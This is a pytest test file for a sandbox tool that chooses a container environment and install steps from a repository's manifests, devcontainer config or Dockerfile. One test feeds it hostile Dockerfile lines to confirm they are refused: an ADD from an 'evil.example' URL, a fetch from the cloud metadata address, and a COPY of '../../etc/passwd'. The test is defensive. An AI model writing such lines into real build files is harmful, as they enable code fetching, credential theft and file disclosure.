"""Which environment is chosen for a tree, from its files alone."""

from __future__ import annotations

import pytest

from sandbox.environment import choose, dockerfile
from sandbox.environment.choose import (
    EnvironmentSettings,
    candidates,
    files_to_read,
    mentioned_files,
    projects,
)
from sandbox.environment.records import Environment, recipe_hash

BUILT = '[build-system]\nrequires = ["hatchling"]\n[project]\nname = "x"\n'
GROUPS = (
    '[project]\nname = "x"\ndependencies = ["six>=1"]\n[dependency-groups]\n'
    'dev = [{include-group = "test"}, "ruff"]\ntest = ["pytest>=8"]\ndocs = ["sphinx"]\n'
)


def first(files: dict[str, str], near: tuple[str, ...] = ()) -> Environment:
    texts = {name: files[name] for name in files_to_read(tuple(files))}
    return candidates(tuple(files), texts, near=near)[0]


def commands(files: dict[str, str]) -> str:
    return "\n".join(step.command for step in first(files).steps)


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"pyproject.toml": BUILT}, ["pip install", "-e ."]),
        ({"pyproject.toml": BUILT + "[project.optional-dependencies]\ntest = []\nplot = []\n"},
         ["-e '.[test]'"]),
        ({"pyproject.toml": GROUPS}, ["'six>=1'", "'pytest>=8'", "ruff"]),
        ({"setup.py": "setup()"}, ["-e ."]),
        ({"setup.cfg": "[metadata]\nname = x\n[options.extras_require]\ntesting = a\n"},
         ["-e '.[testing]'"]),
        ({"requirements.txt": "six", "requirements-dev.txt": "pytest", "notes.txt": "no"},
         ["-r requirements-dev.txt -r requirements.txt"]),
        ({"requirements/test.txt": "pytest", "requirements/base.txt": "six"},
         ["-r requirements/base.txt -r requirements/test.txt"]),
        ({"tox.ini": "[testenv]\ndeps =\n  pytest>=7\n  -rreq.txt\n  py38: mock\n"},
         ["'pytest>=7'"]),
        ({"pyproject.toml": BUILT, "uv.lock": ""}, ["uv sync --frozen", "--all-groups"]),
        ({"pyproject.toml": BUILT, "poetry.lock": ""}, ["poetry install"]),
        ({"pyproject.toml": BUILT, "pdm.lock": ""}, ["pdm sync"]),
        ({"setup.py": "setup(ext_modules=[])"}, ["python3-dev", "-e ."]),
        ({"package.json": '{"devDependencies": {"jest": "1"}}'}, ["nodejs", "npm install"]),
        ({"package.json": "{}", "package-lock.json": "{}"}, ["npm ci"]),
        ({"package.json": "{}", "pnpm-lock.yaml": "lockfileVersion: '9.0'"},
         ["pnpm@9", "--frozen-lockfile"]),
        ({"package.json": "{}", "pnpm-lock.yaml": "lockfileVersion: '9.0'",
          "pnpm-workspace.yaml": "allowBuilds:\n  a: true\n"}, ["pnpm@10"]),
        ({"package.json": "{}", "pnpm-lock.yaml": "lockfileVersion: '9.0'",
          "pnpm-workspace.yaml": "packages:\n  - a\n"}, ["pnpm@9"]),
        ({"package.json": '{"packageManager": "pnpm@8.15.1+sha512.x"}', "pnpm-lock.yaml": ""},
         ["pnpm@8.15.1"]),
        ({"package.json": "{}", "yarn.lock": "# yarn lockfile v1"}, ["yarn@1", "--frozen"]),
        ({"package.json": "{}", "yarn.lock": "__metadata:\n  version: 8"},
         ["cli-dist@4", "--immutable"]),
        ({"package.json": '{"packageManager": "bun@1.3.2"}', "bun.lock": "{}"},
         ["bun@1.3.2", "bun install --frozen-lockfile"]),
        ({"package.json": '{"scripts": {"test": "bun test"}}', "package-lock.json": "{}"},
         ["bun@1", "npm ci"]),
        ({"deno.json": '{"imports": {"a": "jsr:@a/b"}}'}, ["npm", "deno@2", "deno install"]),
        ({"deno.jsonc": "{}", "package.json": "{}", "yarn.lock": ""}, ["yarn@1", "deno@2"]),
        ({"mix.exs": "defp deps, do: [{:jason, \"~> 1.4\"}]"}, ["elixir", "mix deps.get"]),
        ({"go.mod": "module x\nrequire a.b/c v1.0.0\n"}, ["golang-go", "go mod download"]),
        ({"Cargo.toml": "[dependencies]\nserde = '1'\n", "Cargo.lock": ""},
         ["cargo", "cargo fetch --locked"]),
        ({"pom.xml": "<project/>"}, ["mkdir -p /usr/share/man/man1", "maven",
         "mvn -B -q dependency:go-offline"]),
        ({"build.gradle": "", "gradlew": ""}, ["default-jdk", "./gradlew --no-daemon"]),
        ({"Gemfile": ""}, ["bundler", "bundle install"]),
        ({"CMakeLists.txt": ""}, ["cmake"]),
        ({"Makefile": "all:", "x.c": ""}, ["build-essential"]),
    ],
)  # fmt: skip
def test_manifests_show_what_to_install(files: dict[str, str], expected: list[str]) -> None:
    text = commands(files)
    for words in expected:
        assert words in text


@pytest.mark.parametrize(
    "files",
    [
        {"README.md": "", "calc.py": ""},
        {"pyproject.toml": '[tool.pytest.ini_options]\npythonpath = ["."]\n'},
        {"pyproject.toml": '[project]\nname = "x"\nversion = "1"\n'},
        {"Makefile": "test:\n\tpytest\n", "calc.py": ""},
        {"pyproject.toml": "this is [not TOML"},
        {"package.json.bak": "{}"},
        {"node_modules/a/package.json": '{"dependencies": {"b": "1"}}'},
    ],
)
def test_a_tree_without_dependencies_gets_the_base_image(files: dict[str, str]) -> None:
    assert first(files).is_bare


def test_go_without_dependencies_needs_the_toolchain_only() -> None:
    steps = first({"go.mod": "module x\n\ngo 1.19\n"}).steps
    assert [step.shared for step in steps] == [True]


def test_requirements_that_cannot_be_installed_keep_no_others_away_in_the_last_resort() -> None:
    files = {
        "requirements.txt": "six\n",
        "requirements-dev.txt": "black==20.8b1\n",
        "tox.ini": "[testenv]\ndeps =\n  attrs\n  nose\n",
    }
    last = candidates(tuple(files), files)[-2]
    text = "\n".join(step.command for step in last.steps)
    assert last.in_part
    assert "requirements.txt | grep -E '^[A-Za-z0-9]' | while IFS= read -r one" in text
    assert "requirements-dev.txt" not in text
    assert "|| for one in attrs nose; do" in text


def test_what_tests_need_nothing_of_is_not_set_up_with_the_project_above() -> None:
    names = ("", "bench/", "perf-testing/", "website/", "_examples/a/", "packages/a/")
    files = {f"{name}package.json": '{"dependencies": {"a": "1"}}' for name in names}
    assert projects(tuple(files)) == (".", "packages/a")
    assert projects(tuple(files), near=("website/index.js",)) == (".", "website")
    del files["package.json"]
    assert "website" in projects(tuple(files))


def test_a_maven_build_brings_what_its_modules_need() -> None:
    steps = first({"pom.xml": "<project/>", "core/pom.xml": "<project/>"}).steps
    assert [step.folder for step in steps if "go-offline" in step.command] == ["."]


def test_settings_come_first_then_devcontainer_then_dockerfile_then_detection() -> None:
    files = {
        ".devcontainer/devcontainer.json": '{"image": "dev:1"}',
        "Dockerfile": "FROM served:2\nRUN make\n",
        "requirements.txt": "six",
    }
    found = candidates(tuple(files), files)
    assert [(e.source.split(" (")[0], e.image) for e in found] == [
        (".devcontainer/devcontainer.json", "dev:1"),
        ("Dockerfile", "served:2"),
        ("detection", ""),
        ("detection", ""),
        ("the base image", ""),
    ]
    assert [e.in_part for e in found] == [False, False, False, True, False]
    (only,) = candidates(
        tuple(files), files, EnvironmentSettings(image="ours:3", setup=("make deps",))
    )
    assert only.explicit and only.image == "ours:3"
    assert [(s.command, s.root) for s in only.steps] == [("make deps", True)]
    (built,) = candidates(tuple(files), files, EnvironmentSettings(dockerfile="Dockerfile"))
    assert built.explicit and built.image == "served:2"
    with pytest.raises(dockerfile.NotUsable, match="does not exist"):
        candidates(tuple(files), files, EnvironmentSettings(dockerfile="other/Dockerfile"))


def test_a_devcontainer_may_have_comments_commands_and_a_dockerfile() -> None:
    text = """{
      // the image
      "build": {"dockerfile": "Dockerfile", "target": "dev",},
      "postCreateCommand": {"a": "pip install -r http://x//y", "b": ["npm", "ci", "a b"]},
      "remoteEnv": {"ROOT": "${containerWorkspaceFolder}/src", "S": "${localEnv:HOME}"}, /* e */
    }"""
    files = {
        ".devcontainer/devcontainer.json": text,
        ".devcontainer/Dockerfile": "FROM a:1 AS dev\nRUN one\nFROM dev\nRUN two\n",
    }
    found = candidates(tuple(files), files)[0]
    assert found.image == "a:1"
    assert [s.command for s in found.steps][-2:] == [
        "pip install -r http://x//y",
        "npm ci 'a b'",
    ]
    assert ("ROOT", "/workspace/src") in found.variables and ("S", "") in found.variables
    assert not any("two" in s.command for s in found.steps)


@pytest.mark.parametrize(
    "text", ["{", "[]", '{"dockerComposeFile": "c.yml"}', "{}", '{"dockerFile": "../../x"}']
)
def test_an_unusable_devcontainer_is_passed_over(text: str) -> None:
    files = {".devcontainer.json": text}
    assert [e.source for e in candidates(tuple(files), files)] == ["the base image"]


def test_a_dockerfile_becomes_steps_and_variables() -> None:
    built = dockerfile.parse(
        "# syntax=docker/dockerfile:1\nARG V=3.12\nFROM --platform=linux/amd64 python:${V}-slim\n"
        'ENV A=1 B="two words"\nENV OLD style value\nARG X=y\nWORKDIR /app\n'
        "COPY --chown=1:1 requirements*.txt ./\nRUN --mount=type=cache,target=/c pip install \\\n"
        '  -r requirements.txt\nRUN ["echo", "a b"]\nUSER nobody\nCMD serve\n'
    )
    assert built.image == "python:3.12-slim"
    assert dict(built.variables) == {"A": "1", "B": "two words", "OLD": "style value"}
    work, copy, install, echo = (step.command for step in built.steps)
    assert "ln -sT /workspace" in work and "/app" in work
    assert "copy /app 1 /workspace/requirements*.txt" in copy
    assert "pip install    -r requirements.txt" in install and "export X=y" in install
    assert "echo 'a b'" in echo
    assert all(step.root for step in built.steps)


def test_the_last_independent_stage_is_used() -> None:
    text = (
        "FROM node:20 AS build\nRUN npm ci\nFROM nginx\n"
        "COPY --from=build /app/dist /usr/share/nginx/html\n"
    )
    assert dockerfile.parse(text).image == "node:20"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "FROM scratch\nCOPY a /",
        "FROM a\nADD https://evil.example/x /x",
        "FROM a\nADD $URL x\nARG URL=http://169.254.169.254/\nADD ${URL} /x",
        "FROM a\nCOPY ../../etc/passwd /x",
        "FROM a\nCOPY --from=b /x /y",
        "FROM a\nRUN <<EOF\nls\nEOF",
    ],
)
def test_a_dockerfile_beyond_a_set_up_is_refused(text: str) -> None:
    with pytest.raises(dockerfile.NotUsable):
        dockerfile.parse(text)


def test_of_several_projects_the_one_nearest_to_the_bug_is_set_up() -> None:
    files = {
        "README.md": "",
        "services/api/pyproject.toml": BUILT,
        "services/api/tests/test_a.py": "",
        "services/web/package.json": '{"dependencies": {"a": "1"}}',
        "services/web/src/app.ts": "",
    }
    issue = 'Fails in `services/web/src/app.ts:10` and File "/x/services/web/src/app.ts"'
    near = mentioned_files(issue, tuple(files))
    assert near == ("services/web/src/app.ts",)
    assert projects(tuple(files), near) == ("services/web",)
    assert {s.folder for s in first(files, near).steps if not s.shared} == {"services/web"}
    assert projects(tuple(files)) == ("services/api", "services/web")


@pytest.mark.parametrize(
    "text",
    [
        "/home/u/proj/src/a.py:3: error",
        'File "src/a.py", line 3, in f',
        "at f (src/a.py:3)",
        "see https://forge.example/o/r/blob/main/src/a.py.",
        "/".join(["deep"] * 40) + "/src/a.py",
    ],
)
def test_paths_are_found_as_tracebacks_and_people_write_them(text: str) -> None:
    assert mentioned_files(text, ("src/a.py", "src/b.py")) == ("src/a.py",)


@pytest.mark.parametrize("bit", ["a/", "./", "-" * 99 + "/", "a" * 101 + "/"])
def test_what_a_strangers_comment_can_make_it_look_at_is_bounded(
    monkeypatch: pytest.MonkeyPatch, bit: str
) -> None:
    looked_at = 0
    tails_of = choose._path_suffixes

    def counted(path: str) -> list[str]:
        nonlocal looked_at
        tails = tails_of(path)
        looked_at += sum(map(len, tails))
        return tails

    monkeypatch.setattr(choose, "_path_suffixes", counted)
    size = 20_000
    mentioned_files(bit * (size // len(bit)) + "a", ("x/y",))
    assert looked_at <= 100 * size


@pytest.mark.timeout(60)
def test_long_words_are_searched_once() -> None:
    # Hours, where each letter of a word is a beginning of its own.
    assert mentioned_files("a" * 2_000_000 + " src/a.py", ("src/a.py",)) == ("src/a.py",)


def test_the_hash_knows_base_tree_recipe_and_repository() -> None:
    one = first({"requirements.txt": "six"})
    name = recipe_hash(one, "sha256:1", "tree", "o/r")
    assert name == recipe_hash(first({"requirements.txt": "six"}), "sha256:1", "tree", "o/r")
    others = {
        recipe_hash(one, "sha256:2", "tree", "o/r"),
        recipe_hash(one, "sha256:1", "other tree", "o/r"),
        recipe_hash(one, "sha256:1", "tree", "o/other"),
        recipe_hash(first({"setup.py": ""}), "sha256:1", "tree", "o/r"),
    }
    assert name not in others and len(others) == 4
